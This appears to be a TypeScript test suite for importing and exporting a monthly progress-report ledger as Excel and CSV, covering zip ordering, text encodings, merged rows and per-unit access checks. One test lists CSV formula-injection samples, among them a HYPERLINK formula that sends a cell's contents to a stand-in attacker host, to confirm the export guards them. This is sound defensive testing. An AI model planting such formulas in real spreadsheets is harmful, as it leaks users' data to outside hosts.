import { parse as parseCsv } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import iconv from 'iconv-lite';
import JSZip from 'jszip';
import { eq, sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { SessionUser } from '$lib/server/auth/sessions';
import { attachment, changeLog, initiative, milestone, progressReport, reportMilestone, storedFile, user } from '$lib/server/db/schema';
import { updateTracked } from '$lib/server/history';
import { getInitiative } from '$lib/server/initiatives';
import { formatDate } from '$lib/dates';
import { measuresText } from '$lib/measure-lines';
import { summaryColumns, summaryTitle } from '$lib/server/monthly/columns';
import { csvCell, csvCellText } from '$lib/server/monthly/csv-cell';
import { exportFormats } from '$lib/server/monthly/exports';
import { applyImport, planImport, readImportFile, rowsAsPreviewed } from '$lib/server/monthly/import';
import { monthlySummary } from '$lib/server/monthly/summary';
import { seedIfEmpty } from '$lib/server/seed';
import { WorkflowError } from '$lib/server/workflow/errors';
import { addMilestone } from '$lib/server/workflow/items';
import { approveReport, returnReport, saveReport } from '$lib/server/workflow/reports';
import { sessionUser as sessionUserOf } from '../helpers/people';
import { countRows, FIXED_NOW, tempDatabase, type TempDb } from '../helpers/db';

const TODAY = '2026-11-27';
const MONTH = '2026-11';
let t: TempDb;
let staff: SessionUser;
const ctx = () => ({ at: new Date(FIXED_NOW.getTime() + 60_000).toISOString(), actorId: staff.id });

const sessionUser = (username: string) => sessionUserOf(t.db, username);

/** This month's ledger as exported, with `edit` applied to the row of `code`. */
async function filledXlsx(code: string, edit: (row: ExcelJS.Row, col: (header: string) => number) => void): Promise<Uint8Array> {
	const book = new ExcelJS.Workbook();
	await book.xlsx.load((await exportFormats.xlsx.render(monthlySummary(t.db, MONTH, TODAY))) as unknown as ArrayBuffer);
	const sheet = book.getWorksheet('月报')!;
	const col = (h: string) => summaryColumns.findIndex((c) => c.header === h) + 1;
	sheet.eachRow((row) => {
		if (String(row.getCell(col('重点任务')).value).startsWith(`${code} `)) edit(row, col);
	});
	return new Uint8Array(await book.xlsx.writeBuffer());
}

/** The .xlsx `bytes` zipped again with its parts in the order `order` gives their names. */
async function reorderedZip(bytes: Uint8Array, order: (names: string[]) => string[]): Promise<Uint8Array> {
	const zip = await JSZip.loadAsync(bytes);
	const reordered = new JSZip();
	for (const name of order(Object.keys(zip.files).filter((n) => !zip.files[n].dir)))
		reordered.file(name, await zip.files[name].async('uint8array'));
	return reordered.generateAsync({ type: 'uint8array', compression: 'DEFLATE' });
}

/**
 * The .xlsx `bytes` with xl/workbook.xml and its relationships first, as Excel and WPS write them:
 * read by the stream reader (the export's own order, xl/workbook.xml last, is read whole).
 */
const workbookFirst = (bytes: Uint8Array) =>
	reorderedZip(bytes, (names) => {
		const first = ['[Content_Types].xml', '_rels/.rels', 'xl/workbook.xml', 'xl/_rels/workbook.xml.rels'];
		return [...first.filter((n) => names.includes(n)), ...names.filter((n) => !first.includes(n))];
	});

/** The items of `smallLedger`'s rows 4 and 5. */
const smallLedgerCodes = ['ECO-04', 'YRD-01'];

/**
 * A ledger of two items (rows 4 and 5) as Excel saves one, its first sheet's XML edited by `edit`,
 * `remark` written in its 备注.
 */
async function smallLedger(edit: (xml: string) => string, remark = ''): Promise<Uint8Array> {
	const book = new ExcelJS.Workbook();
	const sheet = book.addWorksheet('月报');
	sheet.getCell('A1').value = summaryTitle(MONTH);
	sheet.getRow(3).values = summaryColumns.map((c) => c.header);
	smallLedgerCodes.forEach((code, i) => {
		const row = sheet.getRow(4 + i);
		row.getCell(summaryColumns.findIndex((c) => c.key === 'item') + 1).value = `${code} ${getInitiative(t.db, code, TODAY)!.title}`;
		row.getCell(summaryColumns.findIndex((c) => c.key === 'remark') + 1).value = remark;
	});
	const zip = await JSZip.loadAsync(await book.xlsx.writeBuffer());
	const name = 'xl/worksheets/sheet1.xml';
	zip.file(name, edit(await zip.file(name)!.async('string')));
	return zip.generateAsync({ type: 'uint8array', compression: 'DEFLATE' });
}

/**
 * An item the other tests of this file leave alone, with no report sent this month, that also
 * `fits`, and a staff member of its lead unit.
 */
function unsentItemOfAnotherUnit(fits: (item: NonNullable<ReturnType<typeof getInitiative>>) => boolean) {
	const staffOf = (unitId: number | null) => (unitId === null ? undefined : t.db.select().from(user).where(eq(user.unitId, unitId)).get());
	const item = t.db
		.select({ code: initiative.code })
		.from(initiative)
		.all()
		.filter((i) => !['ECO-04', 'INN-03', 'PTY-05', 'PTY-06', 'PTY-09', 'YRD-01'].includes(i.code))
		.map((i) => getInitiative(t.db, i.code, TODAY)!)
		.find(
			(i) =>
				i.status === 'active' &&
				(i.reports.find((r) => r.month === MONTH)?.status ?? 'draft') === 'draft' &&
				staffOf(i.leadUnitId) !== undefined &&
				fits(i)
		)!;
	return { item, writer: sessionUser(staffOf(item.leadUnitId)!.username) };
}

type Item = NonNullable<ReturnType<typeof getInitiative>>;
type MilestonesMet = Parameters<typeof saveReport>[4]['milestonesMet'];

/** `writer` sends the month's report of `item` with `texts` and `milestonesMet`, and the office approves it. */
function sentAndApproved(
	item: Item,
	writer: SessionUser,
	texts: { progress: string; problems: string; nextSteps: string },
	milestonesMet: MilestonesMet = []
) {
	const version = item.reports.find((r) => r.month === MONTH)?.version ?? null;
	const sent = saveReport(t.db, writer, item.id, MONTH, { ...texts, milestonesMet, version, submit: true }, ctx(), TODAY);
	const office = sessionUser('supervisor');
	approveReport(t.db, sent.id, sent.version, { at: ctx().at, actor: office, actorId: office.id });
	return { sent, office };
}

/** The month's own .xlsx and .csv read back by each of `readers`: no problem, and no change to `code`. */
async function expectReadBackUnchanged(
	summary: ReturnType<typeof monthlySummary>,
	code: string,
	readers: SessionUser[],
	check?: (row: Awaited<ReturnType<typeof readImportFile>>['rows'][number]) => void
) {
	for (const kind of ['xlsx', 'csv'] as const) {
		const read = await readImportFile(`十一月.${kind}`, await exportFormats[kind].render(summary), MONTH);
		check?.(read.rows.find((r) => r.code === code)!);
		for (const who of readers) {
			const plan = planImport(t.db, who, MONTH, read.rows, TODAY);
			expect(plan.issues, `${kind} as ${who.username}`).toEqual([]);
			expect(plan.changes.map((c) => c.code)).not.toContain(code);
		}
	}
}

beforeAll(() => {
	t = tempDatabase();
	seedIfEmpty(t.db, { dataset: 'demo', now: FIXED_NOW });
	staff = sessionUser('staff');
});
afterAll(() => t.close());

describe('importing a filled-in ledger', () => {
	it('reads a workbook whose zip lists xl/workbook.xml after its worksheets as it reads the usual order', async () => {
		// exceljs's own writer does this now and then (its zip is written asynchronously); its stream
		// reader then failed ("无法读取"): on Node 24, 1 to 6 files in 40 in a test that round-trips a ledger.
		const bytes = await filledXlsx('ECO-04', (row, col) => {
			row.getCell(col('本月进展')).value = '顺序测试。';
		});
		// The relationships and shared strings first, then the worksheets, xl/workbook.xml last.
		const sheet = (n: string) => n.startsWith('xl/worksheets/');
		const odd = await reorderedZip(bytes, (names) => [
			...names.filter((n) => !sheet(n) && n !== 'xl/workbook.xml'),
			...names.filter(sheet),
			'xl/workbook.xml'
		]);
		const usual = await readImportFile('十一月.xlsx', bytes, MONTH);
		const read = await readImportFile('十一月.xlsx', odd, MONTH);
		expect(read.issues).toEqual([]);
		expect(read.rows).toEqual(usual.rows);
		expect(read.rows.some((r) => JSON.stringify(r).includes('顺序测试。'))).toBe(true);
	});

	it("reads the workbook's first sheet whatever the order of the zip's parts, and refuses an annex moved first", async () => {
		// A zip tool may store the annex (滞后事项, the ledger's columns, some of its rows) before the ledger:
		// read in the zip's order, the unit's edits came back as no change at all.
		const bytes = await filledXlsx('ECO-04', (row, col) => {
			row.getCell(col('本月进展')).value = '第一个工作表。';
		});
		const annexFirst = await reorderedZip(bytes, (names) => {
			const sheets = ['xl/worksheets/sheet3.xml', 'xl/worksheets/sheet1.xml', 'xl/worksheets/sheet2.xml', 'xl/worksheets/sheet4.xml'];
			return [...names.filter((n) => !sheets.includes(n)), ...sheets];
		});
		const read = await readImportFile('十一月.xlsx', annexFirst, MONTH);
		expect(read.issues).toEqual([]);
		expect(read.rows).toEqual((await readImportFile('十一月.xlsx', bytes, MONTH)).rows);
		expect(read.rows.find((r) => r.code === 'ECO-04')?.progress).toBe('第一个工作表。');

		const moved = new ExcelJS.Workbook();
		await moved.xlsx.load(bytes as unknown as ArrayBuffer);
		// exceljs orders the workbook's sheets by this number (not in its types).
		(moved.getWorksheet('滞后事项') as unknown as { orderNo: number }).orderNo = -1;
		const annexTab = new Uint8Array(await moved.xlsx.writeBuffer());
		await expect(readImportFile('十一月.xlsx', annexTab, MONTH)).rejects.toThrow(/附件/);
	});

	it('reads past a row only formatted far below the table, and names the row of anything written past the rows a ledger has', async () => {
		// A border or a height given to a whole selection in Excel writes rows that hold nothing.
		const formatted = await filledXlsx('ECO-04', (row, col) => {
			row.getCell(col('本月进展')).value = '格式行之上。';
			const far = row.worksheet.getRow(3000);
			far.height = 20;
			far.getCell(3).style = { border: { top: { style: 'thin' } } };
		});
		const read = await readImportFile('f.xlsx', formatted, MONTH);
		expect(read.issues).toEqual([]);
		expect(read.rows.find((r) => r.code === 'ECO-04')?.progress).toBe('格式行之上。');
		const noted = await filledXlsx('ECO-04', (row) => {
			row.worksheet.getCell('C5000').value = '备忘';
		});
		await expect(readImportFile('n.xlsx', noted, MONTH)).rejects.toThrow(/第 5000 行/);
	});

	it('reads every character of long Chinese texts whatever their lengths (a character split between two chunks of the file)', async () => {
		// exceljs's stream reader decodes each inflated chunk of the sheet on its own: a character whose
		// three bytes fell across a chunk's end came back as two U+FFFD, in 7 of 12 files found from outside.
		for (let n = 0; n < 12; n++) {
			const texts = new Map<string, string>();
			const bytes = await filledXlsx('ECO-04', (row, col) => {
				for (const [k, header] of ['本月进展', '存在问题', '下步打算'].entries()) {
					const text = `${'进展情况稳步推进，目标任务全面完成😀'.repeat(20 + n * 5 + k * 2)}${'目'.repeat(n)}`;
					row.getCell(col(header)).value = text;
					texts.set(header, text);
				}
			});
			const read = await readImportFile('长文本.xlsx', bytes, MONTH);
			expect(read.issues).toEqual([]);
			const row = read.rows.find((r) => r.code === 'ECO-04')!;
			expect([row.progress, row.problems, row.nextSteps], `file ${n}`).toEqual([...texts.values()]);
			expect(JSON.stringify(read.rows).includes('\uFFFD'), `file ${n}`).toBe(false);
		}
	});

	it('round trip: staff fill in the Excel, preview the changes, and import them as submitted reports', async () => {
		const item = getInitiative(t.db, 'ECO-04', TODAY)!;
		const open = item.milestones.find((m) => m.completedOn === null && m.dueOn < TODAY)!;
		const bytes = await filledXlsx('ECO-04', (row, col) => {
			row.getCell(col('本月进展')).value = '完成年度低碳改造项目 12 个。';
			row.getCell(col('存在问题')).value = '部分企业资金紧张。';
			row.getCell(col('下步打算')).value = '推进第二批项目。';
			row.getCell(col('具体举措/节点')).value = `✓ ${open.title}(2026-11-20)`;
			row.getCell(col('佐证材料')).value = '验收报告';
		});
		const read = await readImportFile('十一月.xlsx', bytes, MONTH);
		expect(read.issues).toEqual([]);
		const plan = planImport(t.db, staff, MONTH, read.rows, TODAY);
		expect(plan.issues).toEqual([]);
		expect(plan.changes).toHaveLength(1);
		expect(plan.changes[0]).toMatchObject({ code: 'ECO-04', milestones: [{ title: open.title, date: '2026-11-20' }] });

		expect(applyImport(t.db, staff, MONTH, rowsAsPreviewed(read.rows, plan.changes), ctx(), TODAY)).toBe(1);
		const after = getInitiative(t.db, 'ECO-04', TODAY)!;
		const report = after.reports.find((r) => r.month === MONTH)!;
		expect(report).toMatchObject({ status: 'submitted', progress: '完成年度低碳改造项目 12 个。', reportedBy: staff.id });
		// Not yet counted: the office still reviews it.
		expect(after.milestones.find((m) => m.id === open.id)?.completedOn).toBeNull();
		const logged = t.db.select().from(changeLog).where(eq(changeLog.note, '月报导入')).all();
		expect(logged.length).toBeGreaterThan(0);
		expect(logged.every((l) => l.actorId === staff.id)).toBe(true);
	});

	it("keeps the milestones a unit's draft reports met when its ledger row names only texts, and shows them in the preview", async () => {
		const { item: mine, writer } = unsentItemOfAnotherUnit((i) => i.milestones.some((m) => m.completedOn === null));
		const open = mine.milestones.find((m) => m.completedOn === null)!;
		const report = mine.reports.find((r) => r.month === MONTH);
		const saved = saveReport(
			t.db,
			writer,
			mine.id,
			MONTH,
			{
				progress: '草稿进展',
				problems: '草稿问题',
				nextSteps: '草稿打算',
				milestonesMet: [{ milestoneId: open.id, completedOn: '2026-11-20', evidence: '验收报告已印发' }],
				version: report?.version ?? null,
				submit: false
			},
			ctx(),
			TODAY
		);
		const row = { line: 9, code: mine.code, progress: '导入的进展', problems: '', nextSteps: '', completions: [], evidence: '' };
		const plan = planImport(t.db, writer, MONTH, [row], TODAY);
		expect(plan.issues).toEqual([]);
		expect(plan.changes[0].kept).toEqual([{ milestoneId: open.id, title: open.title, date: '2026-11-20', evidence: '验收报告已印发' }]);
		expect(applyImport(t.db, writer, MONTH, rowsAsPreviewed([row], plan.changes), ctx(), TODAY)).toBe(1);
		expect(t.db.select().from(progressReport).where(eq(progressReport.id, saved.id)).get()).toMatchObject({
			status: 'submitted',
			progress: '导入的进展',
			problems: '草稿问题'
		});
		expect(t.db.select().from(reportMilestone).where(eq(reportMilestone.reportId, saved.id)).all()).toEqual([
			expect.objectContaining({ milestoneId: open.id, completedOn: '2026-11-20', evidence: '验收报告已印发' })
		]);
	});

	it('prints a report of 2,000 characters whole (its row merged over rows Excel allows) and reads it back the same', async () => {
		const { item, writer } = unsentItemOfAnotherUnit(() => true);
		const sentence = (n: number) => `第${n}项：推进沪苏同城化重点项目建设，完成年度投资目标。`;
		const long = (from: number) =>
			Array.from({ length: 80 }, (_, i) => sentence(from + i))
				.join('')
				.slice(0, 2000);
		const texts = { progress: long(1), problems: long(100), nextSteps: long(200) };
		sentAndApproved(item, writer, texts);

		const file = await exportFormats.xlsx.render(monthlySummary(t.db, MONTH, TODAY));
		const book = new ExcelJS.Workbook();
		await book.xlsx.load(file as unknown as ArrayBuffer);
		const sheet = book.getWorksheet('月报')!;
		const col = summaryColumns.findIndex((c) => c.key === 'progress') + 1;
		let first = 0;
		sheet.eachRow((row) => {
			if (row.getCell(col).value === texts.progress && !first) first = row.number;
		});
		expect(first).toBeGreaterThan(0);
		// Merged down as many rows as the text needs, none taller than Excel's 409 points, every column alike.
		let last = first;
		while (sheet.getCell(last + 1, 1).isMerged && sheet.getCell(last + 1, 1).master.address === sheet.getCell(first, 1).address) last++;
		expect(last).toBeGreaterThan(first);
		for (let c = 1; c <= summaryColumns.length; c++) expect(sheet.getCell(last, c).master.address).toBe(sheet.getCell(first, c).address);
		const heights = Array.from({ length: last - first + 1 }, (_, i) => sheet.getRow(first + i).height);
		expect(Math.max(...heights)).toBeLessThanOrEqual(409);
		// 2,000 characters at about 1.8 units each in a column of the progress's width, 13.5 points a line.
		const lines = Math.ceil((2000 * 1.8) / (summaryColumns[col - 1].width - 1));
		expect(heights.reduce((a, b) => a + b, 0)).toBeGreaterThanOrEqual(lines * 13.5);

		// The import reads the merged rows as the one row they are, and the texts as written.
		const read = await readImportFile('长报告.xlsx', file, MONTH);
		expect(read.issues).toEqual([]);
		expect(read.rows.filter((r) => r.code === item.code)).toEqual([expect.objectContaining(texts)]);
	});

	it("tells a unit nothing of another unit's item beyond that it is not its own (not its files, not its milestones)", async () => {
		const other = sessionUser('staff-zzb');
		const item = getInitiative(t.db, 'ECO-04', TODAY)!;
		const file = item.attachments.find((a) => a.withdrawnAt === null);
		const names = [file?.fileName ?? '验收报告.pdf', 'nonexistent.png'];
		const plans = names.map((name) =>
			planImport(
				t.db,
				other,
				MONTH,
				[
					{
						line: 4,
						code: 'ECO-04',
						progress: '别的单位',
						problems: '',
						nextSteps: '',
						completions: [{ title: '不存在的节点', date: '2026-11-01' }],
						evidence: `文件：${name}`
					}
				],
				TODAY
			)
		);
		for (const plan of plans)
			expect(plan.issues).toEqual([expect.objectContaining({ column: '重点任务', message: expect.stringContaining('ECO-04') })]);
		expect(plans[0]).toEqual(plans[1]);
	});

	it('reads a cell of invisible characters as empty, as a form does: it neither replaces a text nor counts as filled in', async () => {
		const bytes = await filledXlsx('INN-03', (row, col) => {
			row.getCell(col('本月进展')).value = '\u200B\u200B';
			row.getCell(col('存在问题')).value = ' \u2060 ';
			row.getCell(col('下步打算')).value = '\uFEFF继续推进。\u200B';
		});
		const read = await readImportFile('invisible.xlsx', bytes, MONTH);
		expect(read.rows.find((r) => r.code === 'INN-03')).toMatchObject({ progress: '', problems: '', nextSteps: '继续推进。' });
	});

	it("never takes the system's remark (备注) for evidence: a tick without 佐证材料 is an error on that column", async () => {
		const item = getInitiative(t.db, 'INN-03', TODAY)!;
		const open = item.milestones.find((m) => m.completedOn === null)!;
		const bytes = await filledXlsx('INN-03', (row, col) => {
			row.getCell(col('本月进展')).value = '正常推进。';
			row.getCell(col('存在问题')).value = '无。';
			row.getCell(col('下步打算')).value = '继续。';
			row.getCell(col('具体举措/节点')).value = `√${open.title}（2026年11月20日）`;
			expect(String(row.getCell(col('备注')).value)).toMatch(/逾期节点|本月未报送/); // the export's own remark
		});
		const read = await readImportFile('d.xlsx', bytes, MONTH);
		expect(read.issues).toEqual([]);
		expect(read.rows.find((r) => r.code === 'INN-03')).toMatchObject({
			completions: [{ title: open.title, date: '2026-11-20' }],
			evidence: ''
		});
		const plan = planImport(t.db, staff, MONTH, read.rows, TODAY);
		expect(plan.issues).toContainEqual(expect.objectContaining({ column: '佐证材料', message: expect.stringContaining('佐证材料') }));
	});

	it("the office's import neither shows nor submits a unit's unsent draft; a payload's impossible date or repeated line is refused", async () => {
		const office = sessionUser('supervisor');
		// PTY-06 is led by 市委组织部 (staff-zzb) and has no report this month in the demo.
		const item = getInitiative(t.db, 'PTY-06', TODAY)!;
		const draft = item.reports.find((r) => r.month === MONTH);
		const lead = sessionUser('staff-zzb');
		const saved = saveReport(
			t.db,
			lead,
			item.id,
			MONTH,
			{
				progress: '未提交的草稿进展',
				problems: '未提交的草稿问题',
				nextSteps: '未提交的草稿打算',
				milestonesMet: [],
				version: draft?.version ?? null,
				submit: false
			},
			ctx(),
			TODAY
		);
		// Even filled in whole, the office's row neither shows the draft nor replaces it: the unit sends it.
		const row = {
			line: 7,
			code: 'PTY-06',
			progress: '督查室录入的进展',
			problems: '督查室录入的问题',
			nextSteps: '督查室录入的打算',
			completions: [],
			evidence: ''
		};
		const plan = planImport(t.db, office, MONTH, [row], TODAY);
		expect(JSON.stringify(plan)).not.toContain('未提交的草稿');
		expect(plan.changes).toEqual([]);
		expect(plan.issues).toEqual([
			expect.objectContaining({ line: 7, column: '本月进展', message: expect.stringContaining('PTY-06 的本月进展已由牵头单位开始填写') })
		]);
		expect(() => applyImport(t.db, office, MONTH, [{ ...row, seenVersion: saved.version }], ctx(), TODAY)).toThrow(/未导入任何内容/);
		// Nor does saving the report for the unit: refused before any version is compared (whose conflict lists the texts).
		const save = () =>
			saveReport(t.db, office, item.id, MONTH, { ...row, milestonesMet: [], version: saved.version + 5, submit: true }, ctx(), TODAY);
		expect(save).toThrow(/开始填写，尚未提交/);
		expect(t.db.select().from(progressReport).where(eq(progressReport.id, saved.id)).get()).toMatchObject({
			status: 'draft',
			progress: '未提交的草稿进展',
			version: saved.version
		});

		const badDate = planImport(
			t.db,
			lead,
			MONTH,
			[{ ...row, completions: [{ title: '任意节点', date: '2026-02-31' }], evidence: '材料' }],
			TODAY
		);
		expect(badDate.issues).toContainEqual(expect.objectContaining({ column: '具体举措/节点' }));
		expect(() => applyImport(t.db, lead, MONTH, [row, { ...row, code: 'PTY-05' }], ctx(), TODAY)).toThrow(WorkflowError);
	});

	it("names only files the importer may read: not a unit's unsent draft's file (of another month)", async () => {
		// An item of another unit with last month's report unsent: the office may enter it by import. This
		// month the unit keeps a draft with a file, which the office may not read.
		const LAST = '2026-10';
		const { item, writer } = unsentItemOfAnotherUnit(
			(i) =>
				!i.reports.some((r) => r.month === LAST && (r.status === 'submitted' || r.status === 'approved')) &&
				i.milestones.some((m) => m.completedOn === null)
		);
		const draft = saveReport(
			t.db,
			writer,
			item.id,
			MONTH,
			{ progress: '草稿', problems: '', nextSteps: '', milestonesMet: [], version: null, submit: false },
			ctx(),
			TODAY
		);
		t.db
			.insert(storedFile)
			.values({ sha256: 'a'.repeat(64), size: 69, mime: 'image/png', storedAt: ctx().at })
			.run();
		t.db
			.insert(attachment)
			.values({
				initiativeId: item.id,
				reportId: draft.id,
				fileName: '草稿机密.png',
				sha256: 'a'.repeat(64),
				mime: 'image/png',
				size: 69,
				uploadedAt: ctx().at
			})
			.run();
		const open = item.milestones.find((m) => m.completedOn === null)!;
		const row = (name: string) => ({
			line: 9,
			code: item.code,
			progress: '督查室录入',
			problems: '无',
			nextSteps: '继续',
			completions: [{ title: open.title, date: '2026-10-20' }],
			evidence: `文件：${name}`
		});
		const plan = (who: SessionUser, name: string) => planImport(t.db, who, LAST, [row(name)], TODAY);
		// To the office the draft's file is as absent as a name nobody uploaded: the same answer, nothing to copy.
		const office = sessionUser('supervisor');
		const asked = plan(office, '草稿机密.png');
		expect(asked.issues).toEqual([expect.objectContaining({ column: '佐证材料', message: expect.stringContaining('草稿机密.png') })]);
		expect(JSON.stringify(asked)).toBe(JSON.stringify(plan(office, '无此文件.png')).replaceAll('无此文件.png', '草稿机密.png'));
		// The unit whose draft it is names it, and its import attaches it.
		const own = plan(writer, '草稿机密.png');
		expect(own.issues).toEqual([]);
		expect(own.changes[0].files).toEqual([{ name: '草稿机密.png', size: 69 }]);

		// Another file of the same name on the item (the office's): the name no longer tells which is
		// meant, and the unit is told so rather than given the newest.
		t.db
			.insert(storedFile)
			.values({ sha256: 'b'.repeat(64), size: 70, mime: 'image/png', storedAt: ctx().at })
			.run();
		const officeFile = { initiativeId: item.id, fileName: '草稿机密.png', mime: 'image/png', uploadedAt: ctx().at };
		t.db
			.insert(attachment)
			.values({ ...officeFile, sha256: 'b'.repeat(64), size: 70 })
			.run();
		expect(plan(writer, '草稿机密.png').issues).toEqual([
			expect.objectContaining({ column: '佐证材料', message: expect.stringContaining('多个名为“草稿机密.png”的不同文件') })
		]);
		// The same file uploaded again under its name is one file, not two.
		t.db
			.delete(attachment)
			.where(eq(attachment.sha256, 'b'.repeat(64)))
			.run();
		t.db
			.insert(attachment)
			.values({ ...officeFile, sha256: 'a'.repeat(64), size: 69 })
			.run();
		expect(plan(writer, '草稿机密.png').issues).toEqual([]);
	});

	it('refuses to apply over a report changed since the preview, and leaves it as it was', async () => {
		const item = getInitiative(t.db, 'INN-03', TODAY)!;
		const draft = item.reports.find((r) => r.month === MONTH)!;
		expect(draft.status).toBe('draft');
		const bytes = await filledXlsx('INN-03', (row, col) => {
			row.getCell(col('本月进展')).value = '导入的进展。';
			row.getCell(col('存在问题')).value = '导入的问题。';
			row.getCell(col('下步打算')).value = '导入的打算。';
		});
		const read = await readImportFile('c.xlsx', bytes, MONTH);
		const plan = planImport(t.db, staff, MONTH, read.rows, TODAY);
		expect(plan.issues).toEqual([]);
		const previewed = rowsAsPreviewed(read.rows, plan.changes);
		// Meanwhile a colleague saves the draft in the web form.
		const edited = saveReport(
			t.db,
			staff,
			item.id,
			MONTH,
			{ progress: '同事在网页上写的进展。', problems: '', nextSteps: '', milestonesMet: [], version: draft.version, submit: false },
			ctx(),
			TODAY
		);
		expect(() => applyImport(t.db, staff, MONTH, previewed, ctx(), TODAY)).toThrow(/预览之后.*INN-03/);
		expect(getInitiative(t.db, 'INN-03', TODAY)!.reports.find((r) => r.month === MONTH)).toMatchObject({
			progress: '同事在网页上写的进展。',
			version: edited.version,
			status: 'draft'
		});
	});

	it('lists every problem by row and column, and imports nothing when any row is wrong', async () => {
		const bytes = await filledXlsx('INN-03', (row, col) => {
			row.getCell(col('本月进展')).value = '正常推进。';
			row.getCell(col('存在问题')).value = '无。';
			row.getCell(col('下步打算')).value = '继续。';
			row.getCell(col('具体举措/节点')).value = '✓ 不存在的节点(2026-11-31)';
		});
		const other = await filledXlsx('PTY-09', (row, col) => {
			row.getCell(col('本月进展')).value = '别的单位的任务。';
		});
		const read = await readImportFile('a.xlsx', bytes, MONTH);
		expect(read.issues).toContainEqual(expect.objectContaining({ column: '具体举措/节点' }));
		const foreign = await readImportFile('b.xlsx', other, MONTH);
		const plan = planImport(t.db, staff, MONTH, foreign.rows, TODAY);
		expect(plan.issues).toContainEqual(expect.objectContaining({ column: '重点任务', message: expect.stringContaining('不是本单位') }));
		const before = countRows(t.db, changeLog);
		expect(() => applyImport(t.db, staff, MONTH, foreign.rows, ctx(), TODAY)).toThrow(/未导入任何内容/);
		expect(countRows(t.db, changeLog)).toBe(before);
	});

	it('refuses a file of the wrong kind, shape or month, and an unknown item code', async () => {
		await expect(readImportFile('x.pdf', new Uint8Array([1, 2, 3]), MONTH)).rejects.toThrow(
			'上传的是 .pdf 文件；月报台账须为 .xlsx 或 .csv 文件'
		);
		await expect(readImportFile('x.xlsx', new Uint8Array([1, 2, 3]), MONTH)).rejects.toThrow(/无法读取/);
		await expect(readImportFile('x.xlsx', new Uint8Array(0), MONTH)).rejects.toBeInstanceOf(WorkflowError);
		const october = Buffer.from(await exportFormats.xlsx.render(monthlySummary(t.db, '2026-10', TODAY)));
		await expect(readImportFile('oct.xlsx', new Uint8Array(october), MONTH)).rejects.toThrow(/不是 2026-11 的月报/);
		const blank = new ExcelJS.Workbook();
		blank.addWorksheet('月报').getCell('A1').value = '苏州市重点任务推进情况月报(2026年11月)';
		await expect(readImportFile('blank.xlsx', new Uint8Array(await blank.xlsx.writeBuffer()), MONTH)).rejects.toThrow(/找不到表头/);
		const unknown = planImport(
			t.db,
			staff,
			MONTH,
			[{ line: 5, code: 'ZZZ-99', progress: 'x', problems: 'x', nextSteps: 'x', completions: [], evidence: '' }],
			TODAY
		);
		expect(unknown.issues).toEqual([{ line: 5, column: '重点任务', message: '没有编号为“ZZZ-99”的重点任务。' }]);
	});

	it('reads the CSV export back, checking its month column', async () => {
		const csv = Buffer.from(await exportFormats.csv.render(monthlySummary(t.db, MONTH, TODAY)));
		const read = await readImportFile('nov.csv', new Uint8Array(csv), MONTH);
		expect(read.rows.length).toBe(40);
		await expect(readImportFile('nov.csv', new Uint8Array(csv), '2026-10')).rejects.toThrow(/不是 2026-10 的月报/);
		// Rows pasted in from another program end with LF after the export's CRLF: each is still a row.
		let ends = 0;
		const mixed = new TextDecoder().decode(csv).replace(/\r\n/g, () => (++ends <= 3 ? '\r\n' : '\n'));
		expect(mixed).toMatch(/\r\n.*\n/s);
		const readMixed = await readImportFile('nov.csv', new TextEncoder().encode(mixed), MONTH);
		expect(readMixed.rows.map((r) => r.code)).toEqual(read.rows.map((r) => r.code));
		expect(readMixed.issues).toEqual([]);
		// A column read twice (a copy of 本月进展 pasted beside it, one of them edited): neither is guessed.
		const [header, ...rest] = new TextDecoder().decode(csv).split('\n');
		const twice = [`${header.trimEnd()},本月进展`, ...rest].join('\n');
		await expect(readImportFile('nov.csv', new TextEncoder().encode(twice), MONTH)).rejects.toThrow(
			'表头中“本月进展”出现了 2 次，无法确定读取哪一列。请删除多余的列后重新导入。'
		);
	});

	it('reads a CSV saved by WPS or Excel on Chinese Windows: GB18030, months written 2026年11月', async () => {
		const exported = new TextDecoder().decode(await exportFormats.csv.render(monthlySummary(t.db, MONTH, TODAY)));
		const resaved = exported.replace(/^\uFEFF/, '').replace(/^2026-11,/gm, '2026年11月,');
		expect(resaved).toContain('\n2026年11月,');
		const gbk = iconv.encode(resaved, 'gb18030');
		expect(() => new TextDecoder('utf-8', { fatal: true }).decode(gbk)).toThrow(); // not UTF-8
		const read = await readImportFile('十一月.csv', new Uint8Array(gbk), MONTH);
		expect(read.rows.length).toBe(40);
		expect(read.rows.find((r) => r.code === 'YRD-01')).toBeTruthy();
		// A month column that reads as no month names what it found.
		const odd = iconv.encode(resaved.replace(/^2026年11月,/gm, '十一月,'), 'gb18030');
		await expect(readImportFile('odd.csv', new Uint8Array(odd), MONTH)).rejects.toThrow(/“十一月”/);
		// Bytes that are neither UTF-8 nor GB18030 are refused for their encoding, never read garbled.
		const neither = new Uint8Array([...gbk.subarray(0, 200), 0xff, 0xff, ...gbk.subarray(200)]);
		await expect(readImportFile('乱码.csv', neither, MONTH)).rejects.toThrow(/无法识别该 CSV 文件的文字编码/);
	});

	it('writes texts that start like a formula with a guard, and reads them back unchanged', async () => {
		const hostile = ['=HYPERLINK("http://evil.example/?leak="&A1,"x")', '+1+1', '-2+3', '@SUM(1)', '\t=1', '\r=1'];
		const csv = csvCell(hostile[0]);
		expect(csv.startsWith(`"'=`)).toBe(true);
		for (const text of hostile) {
			const cell = csvCell(text);
			expect(cell.replace(/^"/, '')).toMatch(/^'/);
			const [[parsed]] = parseCsv(cell) as string[][];
			expect(csvCellText(parsed)).toBe(text);
		}
		expect(csvCellText("'plain")).toBe("'plain");
		// A text that begins with its own apostrophe before such a character keeps it.
		for (const text of ["'=引号开头的文字", "''+1", "'-5%", "'plain", "''"]) {
			const [[parsed]] = parseCsv(csvCell(text)) as string[][];
			expect(csvCellText(parsed)).toBe(text);
		}
		expect(csvCell(-3)).toBe('-3');
	});

	it('reads a formula cell by its cached result, and refuses one without a result', async () => {
		const withResult = await filledXlsx('ECO-04', (row, col) => {
			row.getCell(col('本月进展')).value = { formula: 'CONCAT("完成","改造")', result: '完成改造' };
		});
		const read = await readImportFile('f.xlsx', withResult, MONTH);
		expect(read.rows.find((r) => r.code === 'ECO-04')?.progress).toBe('完成改造');
		const withoutResult = await filledXlsx('ECO-04', (row, col) => {
			row.getCell(col('本月进展')).value = { formula: 'A1&B1' } as ExcelJS.CellFormulaValue;
		});
		await expect(readImportFile('f.xlsx', withoutResult, MONTH)).rejects.toThrow(/公式/);
	});

